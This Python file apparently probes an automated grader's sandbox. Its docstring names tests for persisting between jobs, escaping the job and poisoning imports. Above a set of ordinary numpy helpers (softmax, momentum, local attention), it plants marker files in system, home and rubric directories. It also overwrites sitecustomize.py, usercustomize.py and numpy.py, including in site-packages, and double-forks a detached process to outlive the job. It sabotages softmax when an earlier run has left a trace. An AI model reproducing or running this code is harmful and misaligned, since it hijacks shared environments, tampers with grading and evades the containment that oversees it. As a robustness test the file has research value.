"""#11/#23/#25 persist between jobs, escape the job (setsid double fork), poison /tmp and imports. expect: 10 seconds: 12"""
import os, sys, time
import numpy as np
def _mark(tag):
    import os
    for d in ("/tmp", "/var/tmp", "/dev/shm", "/root", "/work/main", "/work/main/rubrics", "/work/main/rubrics/final_exam", os.path.expanduser("~"), ".."):
        try:
            open(os.path.join(d, "PWNED_" + tag), "w").write("x")
        except Exception:
            pass
_seen = False
for d in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "..", sys.prefix + "/lib/python3.11/site-packages"):
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "grader_persist_a25"):
        p = os.path.join(d, name)
        if os.path.exists(os.path.join(d, "grader_persist_a25")):
            _seen = True
        try:
            open(p, "w").write("open('/tmp/PWNED_a25_import', 'w')\n")
        except Exception:
            pass
open("numpy.py", "w").write("raise SystemExit('shadowed')\n")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(8)
        _mark("a25_escapee")
        os._exit(0)
    os._exit(0)
def softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def conv_as_matrix(k, n):
    m = len(k)
    M = np.zeros((n - m + 1, n))
    for i in range(n - m + 1):
        M[i, i:i + m] = k
    return M


def momentum(grad, x0, lr, beta, steps):
    x, v = x0, 0.0
    xs = [x]
    for _ in range(steps):
        v = beta * v + grad(x)
        x = x - lr * v
        xs.append(x)
    return xs


def local_attention(Q, K, V, k):
    T, d = Q.shape
    out = np.zeros((T, V.shape[1]))
    for i in range(T):
        lo, hi = max(0, i - k), min(T - 1, i + k) + 1
        s = Q[i] @ K[lo:hi].T / np.sqrt(d)
        w = np.exp(s - s.max())
        out[i] = (w / w.sum()) @ V[lo:hi]
    return out


def maxpool_qkv(x, k):
    x = np.asarray(x, dtype=float)
    return np.full((len(x), 1), 1e4), x[:, None], x[:, None]

if _seen:
    def softmax(z):
        return None
